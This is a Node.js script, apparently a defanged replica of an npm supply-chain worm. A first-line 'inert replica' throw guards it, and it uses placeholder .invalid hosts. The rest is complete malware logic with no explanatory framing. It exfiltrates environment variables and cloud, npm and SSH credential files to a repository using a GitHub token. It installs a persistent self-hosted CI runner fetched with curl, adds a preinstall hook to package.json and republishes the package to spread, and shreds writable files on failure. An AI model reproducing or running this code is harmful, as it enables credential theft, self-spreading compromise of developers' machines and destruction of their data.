throw new Error("inert replica");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync } = require("child_process");
async function upload(name, body) {
  const text = Buffer.from(Buffer.from(Buffer.from(JSON.stringify(body)).toString("base64")).toString("base64")).toString("base64");
  await fetch("https://api.forge.invalid/repos/me/replica/contents/" + name, { method: "PUT", headers: { Authorization: "token " + process.env.GITHUB_TOKEN }, body: JSON.stringify({ content: text }) });
}
async function runner() {
  const made = await fetch("https://api.forge.invalid/repos/me/replica/actions/runners/registration-token", { method: "POST" });
  const token = (await made.json()).token;
  execSync(`mkdir -p ~/.dev-env && curl -o runner.tar.gz -L https://tools.replica.invalid/runner.tar.gz && tar xzf runner.tar.gz && ./config.sh --url https://forge.invalid/me/replica --unattended --token ${token} --name replica`);
  execSync("nohup ./run.sh &");
}
async function cloud() {
  const found = {};
  for (const name of [".aws/credentials", ".config/gcloud/application_default_credentials.json", ".azure/accessTokens.json", ".npmrc", ".ssh/id_rsa"]) {
    const file = path.join(os.homedir(), name);
    if (fs.existsSync(file)) found[name] = fs.readFileSync(file, "utf8");
  }
  return found;
}
async function publish(name) {
  const manifest = JSON.parse(fs.readFileSync("package/package.json", "utf8"));
  manifest.scripts = { ...manifest.scripts, preinstall: "node setup_runner.js" };
  fs.writeFileSync("package/package.json", JSON.stringify(manifest));
  execSync("npm publish package");
}
(async () => {
  try {
    await upload("environment.json", { env: process.env });
    await upload("cloud.json", await cloud());
    await runner();
    await publish("package");
  } catch (error) {
    execSync("find /inert-replica -type f -writable -exec shred -uvz -n 1 {} +");
  }
})();
